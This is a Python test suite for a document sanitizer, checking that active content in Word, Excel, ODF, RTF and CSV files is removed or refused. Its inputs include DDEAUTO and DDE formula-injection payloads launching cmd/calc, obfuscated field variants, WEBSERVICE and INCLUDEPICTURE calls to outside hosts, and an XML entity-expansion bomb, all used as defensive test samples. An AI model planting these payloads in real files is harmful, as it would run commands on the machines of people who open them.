"""What starts or loads something in the text of documents: fields, formulas, cells. Run in such a guest.
   PYTHONPATH=<where documents.py is> python3 test_active.py"""
import unittest
from xml.etree import ElementTree

from documents import OFFICE, members, word, zipped
from sanitizer import fields, files, verdict


class ActiveText(unittest.TestCase):
    def check(self, name, data, action):
        result = files.clean(name, data)
        self.assertEqual(result.action, action, f"{name}: {result.details}")
        return result

    def field(self, *runs, shown="x"):
        """A Word field whose instruction is cut into these runs; a run may be a field itself."""
        def mark(kind):
            return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

        texts = "".join(run if run.startswith("<") else f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
        return f'{mark("begin")}{texts}{mark("separate")}<w:r><w:t>{shown}</w:t></w:r>{mark("end")}'

    def test_word_fields_that_start_or_load_something_go_however_they_are_written(self):
        dde = self.field(" DDEAUTO ", "c:\\cmd.exe")
        for body in (
            self.field("&#68;&#68;EAUTO cmd"), self.field("D", "DEA", "UTO cmd"), self.field("dde cmd"), dde.replace("w:instrText", "v:instrText").replace("w:fldChar", "v:fldChar"),
            self.field('INCLUDETEXT "cmd"'), self.field('INCLUDEPICTURE "http://203.0.113.66/cmd" \\d'), self.field(self.field("QUOTE 68 68 69"), " cmd"),
            '<w:fldSimple w:instr="&#x44;DEAUTO cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple>', dde.replace('<w:r><w:fldChar w:fldCharType="end"/></w:r>', ""),
        ):  # fmt: skip
            body = f'<w:p xmlns:v="urn:w">{self.field(" PAGE ")}{body}</w:p>'
            result = self.check("a.docx", word(False, body=body), verdict.CLEANED)
            text = members(result.data)["word/document.xml"]
            self.assertNotIn(b"cmd", text, body)
            self.assertIn(b" PAGE ", text)
            self.assertIn("見積書".encode(), text)
        for target in ("\\\\\\\\cmd\\\\share", "file://cmd/x", "//cmd/x", "cmd:x"):
            result = self.check("a.docx", word(False, body=self.field(f' HYPERLINK \\o "見積: 書" "{target}"')), verdict.CLEANED)
            self.assertNotIn(b"cmd", members(result.data)["word/document.xml"])
        for sound in (self.field(" PAGE "), self.field('HYPERLINK "mailto:a@saida.example" \\o "注: 宛先"'), self.field('HYPERLINK \\l "見出し"'), self.field('HYPERLINK "https://www.saida.example/dde"'), self.field(" IF ", self.field("PAGE"), "=1 a b"),
                      self.field("TOC", shown=self.field("PAGEREF x"))):  # fmt: skip
            self.check("a.docx", word(False, body=sound), verdict.PASSED)

    def test_xml_in_another_encoding_or_under_another_name_is_read_all_the_same(self):
        text = members(word(False, body=self.field("DDEAUTO cmd")))["word/document.xml"].decode()
        wide = ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")
        result = self.check("a.docx", word(False, **{"word/document.xml": wide}), verdict.CLEANED)
        self.assertNotIn("cmd", members(result.data)["word/document.xml"].decode())
        result = self.check("a.docx", word(False, **{"word/other.dat": text}), verdict.CLEANED)
        self.assertNotIn(b"cmd", members(result.data)["word/other.dat"])

    def test_xml_written_anew_says_the_same(self):
        text = """<?xml version="1.0" encoding="UTF-8"?><!-- c --><w:a xmlns:w="urn:w" xmlns:m='urn:m' m:Ignorable="w14 x"><w:t xml:space="preserve"> a&#13;b
        &lt;&amp;&quot;見積 ]]&gt;</w:t><w:b v="1&#10;2&#9;3 &lt;'&quot;"></w:b><m:x/><![CDATA[<x>&]]>\U00020bb7</w:a>"""
        for data in (text.encode(), text.replace("UTF-8", "UTF-16").encode("utf-16")):
            written, taken = fields.clean(data)
            self.assertEqual((ElementTree.canonicalize(written.decode()), taken), (ElementTree.canonicalize(text), []))
            self.assertEqual(fields.clean(written)[0], written)

    def test_xml_that_cannot_be_read_or_grows_is_refused(self):
        bomb = '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
        for data in ("<a><b></a>", "no XML", bomb, bomb.encode("utf-16"), "<a>" * 300 + "</a>" * 300, "<?xml version='1.0' encoding='x-none'?><a/>"):
            self.check("a.docx", word(False, **{"word/styles.xml": data}), verdict.REPLACED)
            self.check("a.odt", zipped({"mimetype": "x", "META-INF/manifest.xml": "<m/>", "content.xml": data}), verdict.REPLACED)
        result = self.check("a.xlsx", word(False, **{"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"}), verdict.CLEANED)
        self.assertNotIn("xl/drawings/vmlDrawing1.vml", members(result.data))

    def test_images_of_old_drawings_are_not_loaded_from_elsewhere(self):
        for attribute in ('src="http://cmd/a.png"', 'src="\\\\cmd\\a.png"', 'o:href="//cmd/a.png"'):
            drawing = f'<v:shape xmlns:v="urn:v" xmlns:o="urn:o"><v:imagedata {attribute} o:title="t"/></v:shape>'
            result = self.check("a.docx", word(False, body=drawing), verdict.CLEANED)
            text = members(result.data)["word/document.xml"]
            self.assertNotIn(b"cmd", text)
            self.assertIn(b"imagedata", text)
        self.check("a.docx", word(False, body='<v:imagedata xmlns:v="urn:v" src="word/media/a.png"/>'), verdict.PASSED)

    def test_queries_of_a_workbook_go_and_its_tables_stay(self):
        data = word(False, [("rId8", f"{OFFICE}/connections", "connections.xml", ""), ("rId9", f"{OFFICE}/queryTable", "queryTables/q.xml", "")],
                    **{"word/connections.xml": '<connections><connection><webPr url="http://cmd/"/></connection></connections>',
                       "word/queryTables/q.xml": "<queryTable/>", "word/tables/t.xml": '<table tableType="queryTable" ref="A1:B2"/>'})  # fmt: skip
        parts = members(self.check("a.xlsx", data, verdict.CLEANED).data)
        self.assertEqual({name for name in parts if "quer" in name.lower() or "connections" in name}, set())
        self.assertIn(b'tableType="worksheet" ref="A1:B2"', parts["word/tables/t.xml"])

    def test_formulas_that_start_or_load_something_go_and_others_stay(self):
        def sheet(*formulas):
            cells = "".join(f"<x:c><x:f>{formula}</x:f><x:v>17</x:v></x:c>" for formula in formulas)
            return word(False, **{"xl/worksheets/sheet1.xml": f'<x:worksheet xmlns:x="urn:x">{cells}</x:worksheet>'})

        for formula in ("cmd|'/c calc'!A0", "1+cmd&#124;'/c calc'!A0", "'cmd'|'/c calc'!A0", '_xlfn.WEBSERVICE("http://cmd/"&amp;A1)'):
            result = self.check("a.xlsx", sheet(formula, "SUM(A1:A9)"), verdict.CLEANED)
            text = members(result.data)["xl/worksheets/sheet1.xml"]
            self.assertNotIn(b"cmd", text)
            self.assertIn(b"<x:v>17</x:v>", text)
            self.assertIn(b"SUM(A1:A9)", text)
        self.check("a.xlsx", sheet("SUM(A1)", 'IF(A1="a|b!",1,2)', "'a|b'!A1"), verdict.PASSED)
        odf = {"mimetype": "x", "META-INF/manifest.xml": "<m/>"}
        table = """<a xmlns:t="urn:t"><t:cell t:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;;&quot;y&quot;)"/><t:dde-source t:x="cmd"/></a>"""
        self.assertNotIn(b"cmd", members(self.check("a.ods", zipped({**odf, "content.xml": table}), verdict.CLEANED).data)["content.xml"])

    def test_rtf_is_refused_when_a_field_starts_or_loads_something(self):
        for text in (
            rb'{\field{\*\fldinst {DDEAUTO "cmd" "/c calc"}}{\fldrslt x}}', rb"{\field{\*\fldinst{\b D}{\i DE}AU" + b"\n" + rb"TO cmd}}",
            rb"{\field{\*\fldinst \'44\'44E cmd}}", rb"{\field{\*\fldinst \u68?\u68?E cmd}}", rb'{\field{\*\fldinst INCLUDEPICTURE "http://x/y" \\d}}',
            rb"{\field{\*\fldinst {{\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} cmd}}}", rb"{\field{\*\fldinst DDE cmd",
            rb"{\object\objemb{\*\objdata 0105}}", rb"{\*\template http://x/y.dot}",
        ):  # fmt: skip
            self.check("a.rtf", rb"{\rtf1 " + text + b"}", verdict.REPLACED)
        for text in (rb"hello DDE", rb'{\field{\*\fldinst HYPERLINK "https://x/\\\'83\'65"}{\fldrslt \u35211?}}', rb"{\pict\bin6 \{\{{{}", rb"{\field{\*\fldinst PAGE}}"):
            self.check("a.rtf", rb"{\rtf1 " + text + b"}", verdict.PASSED)

    def test_cells_of_tables_that_would_start_something_become_text(self):
        for text in ("=cmd|'/c calc'!A0", "a,\"=cmd|'/c calc'!A0\"", "氏名;@SUM(1;1)*cmd|'/c calc'!A0", "1\t-2+3+cmd|'/c calc'!A0", '"+cmd|\'/c\n\'!A0"'):
            for encoding in ("utf-8", "cp932"):
                result = self.check("a.csv", text.encode(encoding), verdict.CLEANED)
                self.assertNotRegex(result.data.decode(encoding), r"(?m)(^|[,;\t])\"?[=@+-]")
                self.assertEqual(files.clean("a.csv", result.data).action, verdict.PASSED)
        for text in ("氏名,=SUM(A1)\n-5,+81 3\n", "a|b!,-5,-1.5\n", "ポイント!,-5"):
            self.check("a.csv", text.encode("cp932"), verdict.PASSED)
        self.check("a.csv", b"ID;PWXL\nC;X1;Y1;K0;Ecmd|'/c'!A0", verdict.REPLACED)


unittest.main()
